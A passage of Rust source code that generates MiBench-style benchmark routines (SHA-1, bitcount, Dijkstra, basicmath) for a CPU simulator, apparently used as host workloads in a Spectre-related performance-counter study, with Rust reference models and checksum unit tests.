/// `r9`/`r10`/`r0` temporaries, `r12` 32-bit mask, `r13` addresses.
pub fn emit(asm: &mut Asm, blocks: i32) -> &'static str {
    assert!(blocks as usize <= MAX_BLOCKS, "at most {MAX_BLOCKS} blocks of input data");
    asm.data_label("sha_w");
    asm.space(80 * 4);
    asm.data_label("sha_h");
    for h in H_INIT {
        asm.dq(u64::from(h));
    }
    asm.data_label("sha_data");
    asm.db(&input_data());

    // Helper: 32-bit rotate-left of `src` by `n` into `dst` using r9/r10.
    fn rol(asm: &mut Asm, dst: Reg, src: Reg, n: i32) {
        asm.alui(AluOp::Shl, Reg::R9, src, n);
        asm.alui(AluOp::Shr, Reg::R10, src, 32 - n);
        asm.alu(AluOp::Or, dst, Reg::R9, Reg::R10);
        asm.alu(AluOp::And, dst, dst, Reg::R12);
    }

    asm.label("sha_main");
    asm.ldi(Reg::R12, -1);
    asm.alui(AluOp::Shr, Reg::R12, Reg::R12, 32); // mask32
    asm.ldi(Reg::R1, 0);
    asm.ldi(Reg::R2, blocks);

    asm.label("sha_block");
    // --- W[0..16] = LE words of the block ---------------------------
    asm.ldi(Reg::R3, 0);
    asm.label("sha_loadw");
    asm.la(Reg::R13, "sha_data");
    asm.alui(AluOp::Mul, Reg::R9, Reg::R1, 64);
    asm.alu(AluOp::Add, Reg::R13, Reg::R13, Reg::R9);
    asm.alui(AluOp::Mul, Reg::R9, Reg::R3, 4);
    asm.alu(AluOp::Add, Reg::R13, Reg::R13, Reg::R9);
    asm.ld(Width::W, Reg::R10, Reg::R13, 0);
    asm.la(Reg::R13, "sha_w");
    asm.alui(AluOp::Mul, Reg::R9, Reg::R3, 4);
    asm.alu(AluOp::Add, Reg::R13, Reg::R13, Reg::R9);
    asm.st(Width::W, Reg::R13, Reg::R10, 0);
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
    asm.ldi(Reg::R9, 16);
    asm.br(BranchCond::Ltu, Reg::R3, Reg::R9, "sha_loadw");

    // --- expand W[16..80] -------------------------------------------
    asm.label("sha_expand");
    asm.la(Reg::R13, "sha_w");
    asm.alui(AluOp::Mul, Reg::R9, Reg::R3, 4);
    asm.alu(AluOp::Add, Reg::R13, Reg::R13, Reg::R9);
    asm.ld(Width::W, Reg::R4, Reg::R13, -12); // W[t-3]
    asm.ld(Width::W, Reg::R5, Reg::R13, -32); // W[t-8]
    asm.alu(AluOp::Xor, Reg::R4, Reg::R4, Reg::R5);
    asm.ld(Width::W, Reg::R5, Reg::R13, -56); // W[t-14]
    asm.alu(AluOp::Xor, Reg::R4, Reg::R4, Reg::R5);
    asm.ld(Width::W, Reg::R5, Reg::R13, -64); // W[t-16]
    asm.alu(AluOp::Xor, Reg::R4, Reg::R4, Reg::R5);
    rol(asm, Reg::R4, Reg::R4, 1);
    asm.st(Width::W, Reg::R13, Reg::R4, 0);
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
    asm.ldi(Reg::R9, 80);
    asm.br(BranchCond::Ltu, Reg::R3, Reg::R9, "sha_expand");

    // --- a..e = h0..h4 ------------------------------------------------
    asm.la(Reg::R13, "sha_h");
    asm.ld(Width::D, Reg::R4, Reg::R13, 0);
    asm.ld(Width::D, Reg::R5, Reg::R13, 8);
    asm.ld(Width::D, Reg::R6, Reg::R13, 16);
    asm.ld(Width::D, Reg::R7, Reg::R13, 24);
    asm.ld(Width::D, Reg::R8, Reg::R13, 32);

    // --- 80 rounds ------------------------------------------------------
    asm.ldi(Reg::R3, 0);
    asm.label("sha_round");
    // f/k selection by t range into r9 (f) and r10 (k).
    asm.ldi(Reg::R10, 20);
    asm.br(BranchCond::Geu, Reg::R3, Reg::R10, "sha_f2");
    // f = (b & c) | (~b & d)
    asm.alu(AluOp::And, Reg::R9, Reg::R5, Reg::R6);
    asm.alu(AluOp::Xor, Reg::R10, Reg::R5, Reg::R12); // ~b (32-bit)
    asm.alu(AluOp::And, Reg::R10, Reg::R10, Reg::R7);
    asm.alu(AluOp::Or, Reg::R9, Reg::R9, Reg::R10);
    asm.ldi(Reg::R10, K[0] as i32);
    asm.jmp("sha_fk_done");
    asm.label("sha_f2");
    asm.ldi(Reg::R10, 40);
    asm.br(BranchCond::Geu, Reg::R3, Reg::R10, "sha_f3");
    asm.alu(AluOp::Xor, Reg::R9, Reg::R5, Reg::R6); // b^c^d
    asm.alu(AluOp::Xor, Reg::R9, Reg::R9, Reg::R7);
    asm.ldi(Reg::R10, K[1] as i32);
    asm.jmp("sha_fk_done");
    asm.label("sha_f3");
    asm.ldi(Reg::R10, 60);
    asm.br(BranchCond::Geu, Reg::R3, Reg::R10, "sha_f4");
    asm.alu(AluOp::And, Reg::R9, Reg::R5, Reg::R6); // (b&c)|(b&d)|(c&d)
    asm.alu(AluOp::And, Reg::R10, Reg::R5, Reg::R7);
    asm.alu(AluOp::Or, Reg::R9, Reg::R9, Reg::R10);
    asm.alu(AluOp::And, Reg::R10, Reg::R6, Reg::R7);
    asm.alu(AluOp::Or, Reg::R9, Reg::R9, Reg::R10);
    asm.ldi(Reg::R10, K[2] as i32);
    asm.jmp("sha_fk_done");
    asm.label("sha_f4");
    asm.alu(AluOp::Xor, Reg::R9, Reg::R5, Reg::R6);
    asm.alu(AluOp::Xor, Reg::R9, Reg::R9, Reg::R7);
    asm.ldi(Reg::R10, K[3] as i32);
    asm.label("sha_fk_done");
    asm.alu(AluOp::And, Reg::R10, Reg::R10, Reg::R12); // mask k
    // temp = rol5(a) + f + e + k + W[t]  (r0 accumulates)
    asm.alu(AluOp::Add, Reg::R0, Reg::R9, Reg::R10); // f + k (f in r9)
    asm.alu(AluOp::Add, Reg::R0, Reg::R0, Reg::R8); // + e
    rol(asm, Reg::R9, Reg::R4, 5); // rol5(a) — clobbers r9/r10
    asm.alu(AluOp::Add, Reg::R0, Reg::R0, Reg::R9);
    asm.la(Reg::R13, "sha_w");
    asm.alui(AluOp::Mul, Reg::R9, Reg::R3, 4);
    asm.alu(AluOp::Add, Reg::R13, Reg::R13, Reg::R9);
    asm.ld(Width::W, Reg::R9, Reg::R13, 0); // W[t]
    asm.alu(AluOp::Add, Reg::R0, Reg::R0, Reg::R9);
    asm.alu(AluOp::And, Reg::R0, Reg::R0, Reg::R12);
    // e=d; d=c; c=rol30(b); b=a; a=temp
    asm.mov(Reg::R8, Reg::R7);
    asm.mov(Reg::R7, Reg::R6);
    rol(asm, Reg::R6, Reg::R5, 30);
    asm.mov(Reg::R5, Reg::R4);
    asm.mov(Reg::R4, Reg::R0);
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
    asm.ldi(Reg::R9, 80);
    asm.br(BranchCond::Ltu, Reg::R3, Reg::R9, "sha_round");

    // --- h += a..e (masked) ---------------------------------------------
    asm.la(Reg::R13, "sha_h");
    for (i, reg) in [Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::R8].into_iter().enumerate() {
        asm.ld(Width::D, Reg::R9, Reg::R13, (i * 8) as i32);
        asm.alu(AluOp::Add, Reg::R9, Reg::R9, reg);
        asm.alu(AluOp::And, Reg::R9, Reg::R9, Reg::R12);
        asm.st(Width::D, Reg::R13, Reg::R9, (i * 8) as i32);
    }
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R2, "sha_block");

    // checksum = h0 + h1 + h2 + h3 + h4
    asm.ldi(Reg::R11, 0);
    asm.la(Reg::R13, "sha_h");
    for i in 0..5 {
        asm.ld(Width::D, Reg::R9, Reg::R13, i * 8);
        asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R9);
    }
    asm.ret();
    "sha_main"
}

/// Rust reference model (same LE-word convention as the guest).
pub fn reference(blocks: i32) -> u64 {
    let data = input_data();
    let mut h = H_INIT.map(u64::from);
    for blk in 0..blocks as usize {
        let mut w = [0u32; 80];
        for (t, wt) in w.iter_mut().take(16).enumerate() {
            let o = blk * 64 + t * 4;
            *wt = u32::from_le_bytes(data[o..o + 4].try_into().expect("4 bytes"));
        }
        for t in 16..80 {
            w[t] = (w[t - 3] ^ w[t - 8] ^ w[t - 14] ^ w[t - 16]).rotate_left(1);
        }
        let (mut a, mut b, mut c, mut d, mut e) =
            (h[0] as u32, h[1] as u32, h[2] as u32, h[3] as u32, h[4] as u32);
        for (t, &wt) in w.iter().enumerate() {
            let (f, k) = match t {
                0..=19 => ((b & c) | (!b & d), K[0]),
                20..=39 => (b ^ c ^ d, K[1]),
                40..=59 => ((b & c) | (b & d) | (c & d), K[2]),
                _ => (b ^ c ^ d, K[3]),
            };
            let temp = a
                .rotate_left(5)
                .wrapping_add(f)
                .wrapping_add(e)
                .wrapping_add(k)
                .wrapping_add(wt);
            e = d;
            d = c;
            c = b.rotate_left(30);
            b = a;
            a = temp;
        }
        h[0] = u64::from((h[0] as u32).wrapping_add(a));
        h[1] = u64::from((h[1] as u32).wrapping_add(b));
        h[2] = u64::from((h[2] as u32).wrapping_add(c));
        h[3] = u64::from((h[3] as u32).wrapping_add(d));
        h[4] = u64::from((h[4] as u32).wrapping_add(e));
    }
    h.iter().sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reference_depends_on_block_count() {
        assert_ne!(reference(6), reference(12));
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::Sha1);
        assert_eq!(got, reference(6));
    }
}

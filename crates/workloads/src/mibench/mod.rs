//! MiBench-like guest workloads.
//!
//! Each submodule emits a callable guest routine (entry label returned by
//! `emit`, terminated by `RET`) plus whatever `.data` it needs, and leaves
//! a checksum in `r11` that unit tests verify against a Rust reference
//! model of the same computation.
//!
//! The routines are behaviourally modelled on their MiBench namesakes —
//! what matters for the paper's experiments is the *microarchitectural
//! character* each presents to the performance counters: `basicmath` is
//! divide/branch heavy, `bitcount` is tight-loop ALU, `sha` is rotate/mix
//! compute, `qsort` is branchy pointer traffic, `crc32` is byte streaming,
//! `stringsearch` is data-dependent branching, `dijkstra` is nested-loop
//! memory traffic and `fft` is strided table access. Scales are reduced
//! from MiBench's (documented in DESIGN.md) so runs finish in simulator
//! time; relative sizes (bitcount 50M vs 100M, SHA 1 vs SHA 2) are
//! preserved.

mod adpcm;
mod basicmath;
mod bitcount;
mod crc32;
mod dijkstra;
mod fft;
mod patricia;
mod qsort;
mod sha;
mod stringsearch;
mod susan;

use cr_spectre_asm::builder::Asm;

/// The MiBench-like programs available as hosts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Mibench {
    /// `basicmath` small input (the paper's "Math", averaged small/large).
    BasicMathSmall,
    /// `basicmath` large input.
    BasicMathLarge,
    /// `bitcount` with the paper's 50M-operation input (scaled).
    Bitcount50M,
    /// `bitcount` with the paper's 100M-operation input (scaled).
    Bitcount100M,
    /// SHA over the paper's first input ("SHA 1").
    Sha1,
    /// SHA over the paper's second, larger input ("SHA 2").
    Sha2,
    /// Quicksort over a pseudorandom array.
    Qsort,
    /// Bitwise CRC-32 over a buffer.
    Crc32,
    /// Naive substring search over text.
    StringSearch,
    /// Repeated single-source Dijkstra over a dense graph.
    Dijkstra,
    /// Integer DFT with cosine tables.
    Fft,
    /// IMA ADPCM waveform encoding (telecomm).
    Adpcm,
    /// Bit-trie routing-table lookups (network).
    Patricia,
    /// Thresholded 3×3 image smoothing (automotive vision).
    Susan,
}

impl Mibench {
    /// All workloads.
    pub const ALL: [Mibench; 14] = [
        Mibench::BasicMathSmall,
        Mibench::BasicMathLarge,
        Mibench::Bitcount50M,
        Mibench::Bitcount100M,
        Mibench::Sha1,
        Mibench::Sha2,
        Mibench::Qsort,
        Mibench::Crc32,
        Mibench::StringSearch,
        Mibench::Dijkstra,
        Mibench::Fft,
        Mibench::Adpcm,
        Mibench::Patricia,
        Mibench::Susan,
    ];

    /// The four hosts plotted in the paper's Figure 4
    /// (`Spectre_1..4` legends).
    pub const FIG4_HOSTS: [Mibench; 4] = [
        Mibench::BasicMathSmall,
        Mibench::Bitcount50M,
        Mibench::Sha1,
        Mibench::Qsort,
    ];

    /// The five rows of the paper's Table I.
    pub const TABLE1_ROWS: [Mibench; 5] = [
        Mibench::BasicMathSmall,
        Mibench::Bitcount50M,
        Mibench::Bitcount100M,
        Mibench::Sha1,
        Mibench::Sha2,
    ];

    /// Stable short name.
    pub fn name(self) -> &'static str {
        match self {
            Mibench::BasicMathSmall => "math_small",
            Mibench::BasicMathLarge => "math_large",
            Mibench::Bitcount50M => "bitcount_50m",
            Mibench::Bitcount100M => "bitcount_100m",
            Mibench::Sha1 => "sha_1",
            Mibench::Sha2 => "sha_2",
            Mibench::Qsort => "qsort",
            Mibench::Crc32 => "crc32",
            Mibench::StringSearch => "stringsearch",
            Mibench::Dijkstra => "dijkstra",
            Mibench::Fft => "fft",
            Mibench::Adpcm => "adpcm",
            Mibench::Patricia => "patricia",
            Mibench::Susan => "susan",
        }
    }

    /// The paper's display name for Table I rows.
    pub fn display_name(self) -> &'static str {
        match self {
            Mibench::BasicMathSmall => "Math",
            Mibench::BasicMathLarge => "Math (large)",
            Mibench::Bitcount50M => "Bitcount 50M",
            Mibench::Bitcount100M => "Bitcount 100M",
            Mibench::Sha1 => "SHA 1",
            Mibench::Sha2 => "SHA 2",
            Mibench::Qsort => "Qsort",
            Mibench::Crc32 => "CRC32",
            Mibench::StringSearch => "Stringsearch",
            Mibench::Dijkstra => "Dijkstra",
            Mibench::Fft => "FFT",
            Mibench::Adpcm => "ADPCM",
            Mibench::Patricia => "Patricia",
            Mibench::Susan => "SUSAN",
        }
    }

    /// Emits the workload routine into `asm` and returns its entry label.
    /// The routine is callable (`CALL`/`RET`) and leaves a checksum in
    /// `r11`.
    pub fn emit(self, asm: &mut Asm) -> &'static str {
        match self {
            Mibench::BasicMathSmall => basicmath::emit(asm, 60),
            Mibench::BasicMathLarge => basicmath::emit(asm, 180),
            Mibench::Bitcount50M => bitcount::emit(asm, 2_000),
            Mibench::Bitcount100M => bitcount::emit(asm, 4_000),
            Mibench::Sha1 => sha::emit(asm, 6),
            Mibench::Sha2 => sha::emit(asm, 12),
            Mibench::Qsort => qsort::emit(asm, 256),
            Mibench::Crc32 => crc32::emit(asm, 1024),
            Mibench::StringSearch => stringsearch::emit(asm),
            Mibench::Dijkstra => dijkstra::emit(asm, 4),
            Mibench::Fft => fft::emit(asm),
            Mibench::Adpcm => adpcm::emit(asm, 600),
            Mibench::Patricia => patricia::emit(asm, 300),
            Mibench::Susan => susan::emit(asm),
        }
    }

    /// Rust reference model of the checksum this workload leaves in `r11`
    /// (used by tests and integrity checks).
    pub fn expected_checksum(self) -> u64 {
        match self {
            Mibench::BasicMathSmall => basicmath::reference(60),
            Mibench::BasicMathLarge => basicmath::reference(180),
            Mibench::Bitcount50M => bitcount::reference(2_000),
            Mibench::Bitcount100M => bitcount::reference(4_000),
            Mibench::Sha1 => sha::reference(6),
            Mibench::Sha2 => sha::reference(12),
            Mibench::Qsort => qsort::reference(256),
            Mibench::Crc32 => crc32::reference(1024),
            Mibench::StringSearch => stringsearch::reference(),
            Mibench::Dijkstra => dijkstra::reference(4),
            Mibench::Fft => fft::reference(),
            Mibench::Adpcm => adpcm::reference(600),
            Mibench::Patricia => patricia::reference(300),
            Mibench::Susan => susan::reference(),
        }
    }
}

impl std::fmt::Display for Mibench {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Emits an xorshift64 PRNG step on `x` (clobbers `tmp`):
/// `x ^= x << 13; x ^= x >> 7; x ^= x << 17`.
pub(crate) fn emit_xorshift(asm: &mut Asm, x: cr_spectre_sim::isa::Reg, tmp: cr_spectre_sim::isa::Reg) {
    use cr_spectre_sim::isa::AluOp;
    asm.alui(AluOp::Shl, tmp, x, 13);
    asm.alu(AluOp::Xor, x, x, tmp);
    asm.alui(AluOp::Shr, tmp, x, 7);
    asm.alu(AluOp::Xor, x, x, tmp);
    asm.alui(AluOp::Shl, tmp, x, 17);
    asm.alu(AluOp::Xor, x, x, tmp);
}

/// Rust model of [`emit_xorshift`].
pub(crate) fn xorshift(mut x: u64) -> u64 {
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    x
}

#[cfg(test)]
pub(crate) mod testutil {
    use super::*;
    use cr_spectre_sim::config::MachineConfig;
    use cr_spectre_sim::cpu::Machine;
    use cr_spectre_sim::isa::Reg;

    /// Builds `workload` standalone, runs it, returns the `r11` checksum.
    pub fn run_checksum(workload: Mibench) -> u64 {
        let mut asm = Asm::new();
        asm.label("main");
        let entry = workload.emit(&mut asm);
        // main is first; jump over the workload body to a call site.
        // Simpler: emit call after — but emit() already wrote the body at
        // the current position, so define a fresh entry now.
        asm.label("start");
        asm.call(entry);
        asm.halt();
        asm.entry("start");
        let image = asm.build(workload.name()).expect("assembles");
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).expect("loads");
        m.start(li.entry);
        let out = m.run();
        assert!(out.exit.is_clean(), "{}: {:?}", workload, out.exit);
        m.reg(Reg::R11)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_unique() {
        let mut names: Vec<_> = Mibench::ALL.iter().map(|w| w.name()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), Mibench::ALL.len());
    }

    #[test]
    fn xorshift_model_is_nonzero() {
        let mut x = 0x5eed;
        for _ in 0..100 {
            x = xorshift(x);
            assert_ne!(x, 0);
        }
    }

    #[test]
    fn every_workload_matches_its_reference_model() {
        for w in Mibench::ALL {
            let got = testutil::run_checksum(w);
            let want = w.expected_checksum();
            assert_eq!(got, want, "{w}: guest checksum != Rust reference");
        }
    }
}

//! `bitcount`: multi-method population counting over a PRNG stream,
//! mirroring MiBench's bit-counting kernel collection.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg};

use super::{emit_xorshift, xorshift};

/// Emits the routine; entry label `bc_main`, checksum in `r11`.
pub fn emit(asm: &mut Asm, ops: i32) -> &'static str {
    asm.label("bc_main");
    asm.ldi(Reg::R1, 0); // i
    asm.ldi(Reg::R2, ops);
    asm.ldi(Reg::R11, 0); // checksum
    asm.ldi(Reg::R10, 0x1234_5678); // PRNG state
    asm.label("bc_loop");
    emit_xorshift(asm, Reg::R10, Reg::R9);
    // Method 1: Kernighan — while (x) { x &= x - 1; n += 1 }
    asm.mov(Reg::R3, Reg::R10);
    asm.label("bc_kern");
    asm.br(BranchCond::Eq, Reg::R3, Reg::R0, "bc_kern_done");
    asm.alui(AluOp::Sub, Reg::R4, Reg::R3, 1);
    asm.alu(AluOp::And, Reg::R3, Reg::R3, Reg::R4);
    asm.alui(AluOp::Add, Reg::R11, Reg::R11, 1);
    asm.jmp("bc_kern");
    asm.label("bc_kern_done");
    // Method 2: shift loop over the low 16 bits.
    asm.mov(Reg::R3, Reg::R10);
    asm.ldi(Reg::R5, 0);
    asm.label("bc_shift");
    asm.alui(AluOp::And, Reg::R4, Reg::R3, 1);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R4);
    asm.alui(AluOp::Shr, Reg::R3, Reg::R3, 1);
    asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
    asm.ldi(Reg::R4, 16);
    asm.br(BranchCond::Ltu, Reg::R5, Reg::R4, "bc_shift");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R2, "bc_loop");
    asm.ret();
    "bc_main"
}

/// Rust reference model of the guest checksum.
pub fn reference(ops: i32) -> u64 {
    let mut checksum: u64 = 0;
    let mut state: u64 = 0x1234_5678;
    for _ in 0..ops {
        state = xorshift(state);
        checksum += u64::from(state.count_ones());
        checksum += u64::from((state & 0xffff).count_ones());
    }
    checksum
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reference_scales_with_ops() {
        assert!(reference(4_000) > reference(2_000));
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::Bitcount50M);
        assert_eq!(got, reference(2_000));
    }
}

//! `dijkstra`: repeated single-source shortest paths over a dense random
//! graph — O(N²) nested loops of loads, compares and updates.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

/// Number of graph nodes.
pub(crate) const N: i32 = 16;
/// "Infinity" distance (fits comfortably in a 31-bit immediate).
const INF: i32 = 0x3fff_ffff;

/// Dense edge-weight matrix (bytes, 1..=64) shared by guest and model.
pub(crate) fn weights() -> Vec<u8> {
    let mut x: u32 = 0x6a09_e667;
    (0..N * N)
        .map(|_| {
            x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
            (1 + (x >> 16) % 64) as u8
        })
        .collect()
}

/// Emits the routine; entry label `dj_main`, checksum (sum of all final
/// distances over all sources) in `r11`.
pub fn emit(asm: &mut Asm, sources: i32) -> &'static str {
    asm.data_label("dj_graph");
    asm.db(&weights());
    asm.data_label("dj_dist");
    asm.space(N as u64 * 8);
    asm.data_label("dj_vis");
    asm.space(N as u64);

    asm.label("dj_main");
    asm.ldi(Reg::R11, 0);
    asm.ldi(Reg::R1, 0); // source s
    asm.label("dj_src");
    // init: dist[i] = INF, vis[i] = 0
    asm.ldi(Reg::R3, 0);
    asm.label("dj_init");
    asm.la(Reg::R9, "dj_dist");
    asm.alui(AluOp::Shl, Reg::R10, Reg::R3, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ldi(Reg::R4, INF);
    asm.st(Width::D, Reg::R9, Reg::R4, 0);
    asm.la(Reg::R9, "dj_vis");
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R3);
    asm.st(Width::B, Reg::R9, Reg::R0, 0);
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
    asm.ldi(Reg::R4, N);
    asm.br(BranchCond::Ltu, Reg::R3, Reg::R4, "dj_init");
    // dist[s] = 0
    asm.la(Reg::R9, "dj_dist");
    asm.alui(AluOp::Shl, Reg::R10, Reg::R1, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.st(Width::D, Reg::R9, Reg::R0, 0);
    // N extraction rounds
    asm.ldi(Reg::R2, 0); // round
    asm.label("dj_round");
    // find unvisited minimum: u in r5, best in r6
    asm.ldi(Reg::R5, N); // invalid
    asm.ldi(Reg::R6, INF);
    asm.alui(AluOp::Add, Reg::R6, Reg::R6, 1); // best = INF + 1
    asm.ldi(Reg::R3, 0);
    asm.label("dj_scan");
    asm.la(Reg::R9, "dj_vis");
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R3);
    asm.ld(Width::B, Reg::R4, Reg::R9, 0);
    asm.br(BranchCond::Ne, Reg::R4, Reg::R0, "dj_scan_next");
    asm.la(Reg::R9, "dj_dist");
    asm.alui(AluOp::Shl, Reg::R10, Reg::R3, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ld(Width::D, Reg::R4, Reg::R9, 0);
    asm.br(BranchCond::Geu, Reg::R4, Reg::R6, "dj_scan_next");
    asm.mov(Reg::R6, Reg::R4);
    asm.mov(Reg::R5, Reg::R3);
    asm.label("dj_scan_next");
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
    asm.ldi(Reg::R4, N);
    asm.br(BranchCond::Ltu, Reg::R3, Reg::R4, "dj_scan");
    // vis[u] = 1
    asm.la(Reg::R9, "dj_vis");
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R5);
    asm.ldi(Reg::R4, 1);
    asm.st(Width::B, Reg::R9, Reg::R4, 0);
    // relax every v: alt = dist[u] + w[u][v]
    asm.ldi(Reg::R3, 0); // v
    asm.label("dj_relax");
    asm.la(Reg::R9, "dj_graph");
    asm.alui(AluOp::Mul, Reg::R10, Reg::R5, N);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R3);
    asm.ld(Width::B, Reg::R7, Reg::R9, 0); // w[u][v]
    asm.alu(AluOp::Add, Reg::R7, Reg::R7, Reg::R6); // alt = best + w
    asm.la(Reg::R9, "dj_dist");
    asm.alui(AluOp::Shl, Reg::R10, Reg::R3, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ld(Width::D, Reg::R8, Reg::R9, 0); // dist[v]
    asm.br(BranchCond::Geu, Reg::R7, Reg::R8, "dj_no_improve");
    asm.st(Width::D, Reg::R9, Reg::R7, 0);
    asm.label("dj_no_improve");
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
    asm.ldi(Reg::R4, N);
    asm.br(BranchCond::Ltu, Reg::R3, Reg::R4, "dj_relax");
    asm.alui(AluOp::Add, Reg::R2, Reg::R2, 1);
    asm.ldi(Reg::R4, N);
    asm.br(BranchCond::Ltu, Reg::R2, Reg::R4, "dj_round");
    // checksum += sum(dist)
    asm.ldi(Reg::R3, 0);
    asm.label("dj_sum");
    asm.la(Reg::R9, "dj_dist");
    asm.alui(AluOp::Shl, Reg::R10, Reg::R3, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ld(Width::D, Reg::R4, Reg::R9, 0);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R4);
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
    asm.ldi(Reg::R4, N);
    asm.br(BranchCond::Ltu, Reg::R3, Reg::R4, "dj_sum");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.ldi(Reg::R4, sources);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R4, "dj_src");
    asm.ret();
    "dj_main"
}

/// Rust reference model.
pub fn reference(sources: i32) -> u64 {
    let w = weights();
    let n = N as usize;
    let mut checksum: u64 = 0;
    for s in 0..sources as usize {
        let mut dist = vec![INF as u64; n];
        let mut vis = vec![false; n];
        dist[s] = 0;
        for _ in 0..n {
            // Select the unvisited minimum; `u = n` means none (the guest
            // would then relax row `n`, but a dense graph always has one).
            let mut u = n;
            let mut best = INF as u64 + 1;
            for (i, &d) in dist.iter().enumerate() {
                if !vis[i] && d < best {
                    best = d;
                    u = i;
                }
            }
            vis[u] = true;
            for v in 0..n {
                let alt = best + u64::from(w[u * n + v]);
                if alt < dist[v] {
                    dist[v] = alt;
                }
            }
        }
        checksum += dist.iter().sum::<u64>();
    }
    checksum
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn distances_are_finite_and_nontrivial() {
        let c = reference(4);
        assert!(c > 0);
        assert!(c < 4 * (N as u64) * (INF as u64), "no node left unreachable");
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::Dijkstra);
        assert_eq!(got, reference(4));
    }
}

//! `basicmath`: integer Newton square roots + Collatz step counting.
//!
//! Division-heavy with data-dependent branches, like the original's
//! square-root and cubic-equation solving.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg};

use super::{emit_xorshift, xorshift};

/// Emits the routine; entry label `bm_main`, checksum in `r11`.
pub fn emit(asm: &mut Asm, iters: i32) -> &'static str {
    asm.label("bm_main");
    asm.ldi(Reg::R1, 1); // i
    asm.ldi(Reg::R2, iters); // limit
    asm.ldi(Reg::R11, 0); // checksum
    asm.ldi(Reg::R10, 0x5eed); // PRNG state
    asm.label("bm_loop");
    emit_xorshift(asm, Reg::R10, Reg::R9);
    asm.alui(AluOp::And, Reg::R3, Reg::R10, 0xfffff);
    asm.alui(AluOp::Or, Reg::R3, Reg::R3, 1); // x
    // Newton isqrt: g = x; 12 times: g = (g + x/g) >> 1
    asm.mov(Reg::R4, Reg::R3);
    asm.ldi(Reg::R5, 0);
    asm.label("bm_newton");
    asm.alu(AluOp::Divu, Reg::R6, Reg::R3, Reg::R4);
    asm.alu(AluOp::Add, Reg::R6, Reg::R6, Reg::R4);
    asm.alui(AluOp::Shr, Reg::R4, Reg::R6, 1);
    asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
    asm.ldi(Reg::R6, 12);
    asm.br(BranchCond::Ltu, Reg::R5, Reg::R6, "bm_newton");
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R4);
    // Collatz on (x & 0x3ff) | 1 — very branchy.
    asm.alui(AluOp::And, Reg::R7, Reg::R3, 0x3ff);
    asm.alui(AluOp::Or, Reg::R7, Reg::R7, 1);
    asm.label("bm_collatz");
    asm.ldi(Reg::R6, 1);
    asm.br(BranchCond::Eq, Reg::R7, Reg::R6, "bm_collatz_done");
    asm.alui(AluOp::And, Reg::R8, Reg::R7, 1);
    asm.br(BranchCond::Eq, Reg::R8, Reg::R0, "bm_even");
    asm.alui(AluOp::Mul, Reg::R7, Reg::R7, 3);
    asm.alui(AluOp::Add, Reg::R7, Reg::R7, 1);
    asm.jmp("bm_collatz");
    asm.label("bm_even");
    asm.alui(AluOp::Shr, Reg::R7, Reg::R7, 1);
    asm.alui(AluOp::Add, Reg::R11, Reg::R11, 1);
    asm.jmp("bm_collatz");
    asm.label("bm_collatz_done");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R2, "bm_loop");
    asm.ret();
    "bm_main"
}

/// Rust reference model of the guest checksum.
pub fn reference(iters: i32) -> u64 {
    let mut checksum: u64 = 0;
    let mut state: u64 = 0x5eed;
    let mut i: u64 = 1;
    loop {
        state = xorshift(state);
        let x = (state & 0xfffff) | 1;
        let mut g = x;
        for _ in 0..12 {
            g = (g + x / g) >> 1;
        }
